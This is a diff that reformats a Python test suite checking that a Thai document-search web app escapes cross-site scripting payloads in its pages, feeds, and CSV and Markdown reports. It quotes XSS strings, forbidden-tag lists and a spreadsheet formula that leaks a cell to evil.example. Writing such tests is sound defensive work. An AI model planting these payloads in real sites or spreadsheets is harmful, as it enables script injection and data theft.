@@ -12,17 +12,17 @@ block it anyway, so it must not be needed).
 Feeds: every URL in FEED_URLS is parsed as XML and its HTML parts checked
 the same way; a URL the app does not serve (404) is skipped.
 """
+
 from __future__ import annotations
 
+import csv
 import html
+import io
 import json
 import re
 import xml.etree.ElementTree as ET
 from html.parser import HTMLParser
 from pathlib import Path
-
-import csv
-import io
 
 import markdown
 import pytest
@@ -33,23 +33,76 @@ from kmsearch import create_app
 
 from .corpus import write_corpus
 
-PAYLOADS = [line for line in (Path(__file__).parent / "xss_payloads.txt").read_text(encoding="utf-8").splitlines()
-            if line and not line.startswith("# ")]
-FEED_URLS = ["/feed.atom", "/division/finance/feed.atom"]   # a URL not served yet is skipped
+PAYLOADS = [
+    line
+    for line in (Path(__file__).parent / "xss_payloads.txt").read_text(encoding="utf-8").splitlines()
+    if line and not line.startswith("# ")
+]
+FEED_URLS = ["/feed.atom", "/division/finance/feed.atom"]  # a URL not served yet is skipped
 
 # Elements that load or run something, or parse differently in places
 # (mXSS): never on any page.
 FORBIDDEN_TAGS = {
-    "script", "iframe", "frame", "frameset", "object", "embed", "applet", "svg", "math", "style", "base",
-    "video", "audio", "source", "track", "marquee", "noscript", "template", "isindex", "keygen", "portal",
-    "xmp", "plaintext", "listing", "param",
+    "script",
+    "iframe",
+    "frame",
+    "frameset",
+    "object",
+    "embed",
+    "applet",
+    "svg",
+    "math",
+    "style",
+    "base",
+    "video",
+    "audio",
+    "source",
+    "track",
+    "marquee",
+    "noscript",
+    "template",
+    "isindex",
+    "keygen",
+    "portal",
+    "xmp",
+    "plaintext",
+    "listing",
+    "param",
 }
 # The app's own pages use some of these (the search form, <details> for
 # filters, share-card <meta>); content (an article body, a snippet) never.
-CONTENT_FORBIDDEN_TAGS = {"form", "input", "button", "textarea", "select", "label", "details", "dialog",
-                          "link", "meta", "canvas", "picture"}
-URL_ATTRIBUTES = {"href", "src", "action", "formaction", "poster", "data", "cite", "background", "srcset",
-                  "xlink:href", "codebase", "longdesc", "manifest", "ping", "lowsrc", "dynsrc"}
+CONTENT_FORBIDDEN_TAGS = {
+    "form",
+    "input",
+    "button",
+    "textarea",
+    "select",
+    "label",
+    "details",
+    "dialog",
+    "link",
+    "meta",
+    "canvas",
+    "picture",
+}
+URL_ATTRIBUTES = {
+    "href",
+    "src",
+    "action",
+    "formaction",
+    "poster",
+    "data",
+    "cite",
+    "background",
+    "srcset",
+    "xlink:href",
+    "codebase",
+    "longdesc",
+    "manifest",
+    "ping",
+    "lowsrc",
+    "dynsrc",
+}
 FORBIDDEN_ATTRIBUTES = {"style", "srcdoc", "formaction", "background", "xlink:href", "srcset", "http-equiv"}
 # <link> relations that make the browser load and use something.
 LOADING_RELS = {"stylesheet", "preload", "modulepreload", "prefetch", "icon", "manifest", "import", "serviceworker"}
@@ -156,13 +209,23 @@ def hostile_docs() -> dict[str, str]:
     docs = {}
     for i, p in enumerate(PAYLOADS):
         meta = {
-            "id": f"xss-{i:03d}", "title": f"คู่มือ {p}", "division": "กองคลัง", "type": "manual",
-            "knowledge": "tacit", "holder": p, "author": p, "tags": [p, "ภาษีที่ดิน"], "summary": p,
-            "date": "2024-01-15", "aliases": [f"xss-old-{i:03d}"],
+            "id": f"xss-{i:03d}",
+            "title": f"คู่มือ {p}",
+            "division": "กองคลัง",
+            "type": "manual",
+            "knowledge": "tacit",
+            "holder": p,
+            "author": p,
+            "tags": [p, "ภาษีที่ดิน"],
+            "summary": p,
+            "date": "2024-01-15",
+            "aliases": [f"xss-old-{i:03d}"],
         }
         front = yaml.safe_dump(meta, allow_unicode=True, sort_keys=False, width=10**6)
-        body = (f"ภาษีที่ดิน {p}\n\n{p}\n\n## {p}\n\n- {p}\n\n> {p}\n\n"
-                f"| หัวข้อ | ค่า |\n|:--|--:|\n| {_cell(p)} | ภาษีที่ดิน |\n\n[ลิงก์ {i}]({p.split()[0] if p.split() else 'x'})\n")
+        body = (
+            f"ภาษีที่ดิน {p}\n\n{p}\n\n## {p}\n\n- {p}\n\n> {p}\n\n"
+            f"| หัวข้อ | ค่า |\n|:--|--:|\n| {_cell(p)} | ภาษีที่ดิน |\n\n[ลิงก์ {i}]({p.split()[0] if p.split() else 'x'})\n"
+        )
         docs[f"finance/{_file_name(i, p)}"] = f"---\n{front}---\n{body}"
     return docs
 
@@ -214,8 +277,12 @@ def test_listings_and_result_pages_with_every_hostile_document(hostile):
     pages = ["/", "/type/manual", "/knowledge/tacit"]
     per_page = 10
     for n in range(1, len(PAYLOADS) // per_page + 2):
-        pages += [f"/division/finance?page={n}", f"/search?q=คู่มือ&page={n}", f"/search?q=&sort=date&page={n}",
-                  f"/search?q=ภาษีที่ดิน+script+alert+onerror&page={n}"]
+        pages += [
+            f"/division/finance?page={n}",
+            f"/search?q=คู่มือ&page={n}",
+            f"/search?q=&sort=date&page={n}",
+            f"/search?q=ภาษีที่ดิน+script+alert+onerror&page={n}",
+        ]
     for url in pages:
         resp = hostile.get(url)
         assert resp.status_code == 200, url
@@ -225,7 +292,7 @@ def test_listings_and_result_pages_with_every_hostile_document(hostile):
 def test_hostile_text_is_shown_as_text(hostile):
     """Escaped, not dropped: a reader sees what the author wrote."""
     body = hostile.get("/a/xss-000").get_data(as_text=True)
-    assert "คู่มือ &lt;script&gt;alert(1)&lt;/script&gt;" in body   # the title
+    assert "คู่มือ &lt;script&gt;alert(1)&lt;/script&gt;" in body  # the title
     body = hostile.get("/search", query_string={"q": '"><script>alert(1)</script>'}).get_data(as_text=True)
     assert "&#34;&gt;&lt;script&gt;alert(1)&lt;/script&gt;" in body
 
@@ -271,7 +338,7 @@ def test_no_cell_of_the_csv_report_is_a_formula(hostile, tmp_path):
     cells = [c for row in rows for c in row]
     assert not [c for c in cells if c.lstrip(" \n").startswith(FORMULA_START)]
     # Shown as typed, an apostrophe first: a title and a query.
-    assert "'=hyperlink(\"http://evil.example/?leak=\"&a1,\"x\")" in cells       # queries are kept lower case
+    assert '\'=hyperlink("http://evil.example/?leak="&a1,"x")' in cells  # queries are kept lower case
     assert any(c.startswith("คู่มือ =HYPERLINK(") for c in cells)
 
 
@@ -288,23 +355,41 @@ def test_the_markdown_report_shows_hostile_text_as_text(hostile, tmp_path):
         widths = {len(re.findall(r"(?<!\\)\|", row)) for row in table.splitlines()}
         assert len(widths) == 1, f"a pipe in a title or query adds a column: {table[:300]}"
     text = html.unescape(re.sub(r"<[^>]+>", "", rendered))
-    for shown in ("คู่มือ <script>alert(1)</script>", "`code` **bold** [link](https://evil.example/) <b>bold</b>",
-                  "#heading | cell | ![t](https://evil.example/t.png)", "1. list item > quote \\| escaped pipe"):
+    for shown in (
+        "คู่มือ <script>alert(1)</script>",
+        "`code` **bold** [link](https://evil.example/) <b>bold</b>",
+        "#heading | cell | ![t](https://evil.example/t.png)",
+        "1. list item > quote \\| escaped pipe",
+    ):
         assert shown in text, shown
 
 
 def test_the_checker_catches_what_it_must():
     """The checks above would see a payload that got through."""
-    for bad in ["<script>alert(1)</script>", '<img src=x onerror="alert(1)">', '<a href="jav&#x09;ascript:x">x</a>',
-                '<a href=" JAVASCRIPT:x">x</a>', '<img src="data:image/svg+xml,x">', "<svg></svg>",
-                '<p style="color:red">x</p>', '<iframe srcdoc="x"></iframe>', '<a href="x" target="_blank">x</a>',
-                '<meta http-equiv="refresh" content="0">', '<link rel="stylesheet" href="https://evil.example/">',
-                '<link rel="icon preload" href="//evil.example/x">',
-                '<form action="https://evil.example/"><input></form>', '<img srcset="x 1x, javascript:y 2x">']:
+    for bad in [
+        "<script>alert(1)</script>",
+        '<img src=x onerror="alert(1)">',
+        '<a href="jav&#x09;ascript:x">x</a>',
+        '<a href=" JAVASCRIPT:x">x</a>',
+        '<img src="data:image/svg+xml,x">',
+        "<svg></svg>",
+        '<p style="color:red">x</p>',
+        '<iframe srcdoc="x"></iframe>',
+        '<a href="x" target="_blank">x</a>',
+        '<meta http-equiv="refresh" content="0">',
+        '<link rel="stylesheet" href="https://evil.example/">',
+        '<link rel="icon preload" href="//evil.example/x">',
+        '<form action="https://evil.example/"><input></form>',
+        '<img srcset="x 1x, javascript:y 2x">',
+    ]:
         assert unsafe_markup(bad, page=True), bad
     assert unsafe_markup('<form action="/search"><input name="q"></form>', page=False)
     assert unsafe_markup('<meta name="description" content="x">', page=False)
-    assert not unsafe_markup('<meta name="description" content="&lt;script&gt;"><link rel="canonical" href="http://x/">'
-                             '<link rel="stylesheet" href="/static/style.css">')
-    assert not unsafe_markup('<p>&lt;script&gt;alert(1)&lt;/script&gt; <a href="/a/x">x</a> '
-                             '<a href="https://example.org/" rel="noopener noreferrer">y</a></p>')
+    assert not unsafe_markup(
+        '<meta name="description" content="&lt;script&gt;"><link rel="canonical" href="http://x/">'
+        '<link rel="stylesheet" href="/static/style.css">'
+    )
+    assert not unsafe_markup(
+        '<p>&lt;script&gt;alert(1)&lt;/script&gt; <a href="/a/x">x</a> '
+        '<a href="https://example.org/" rel="noopener noreferrer">y</a></p>'
+    )
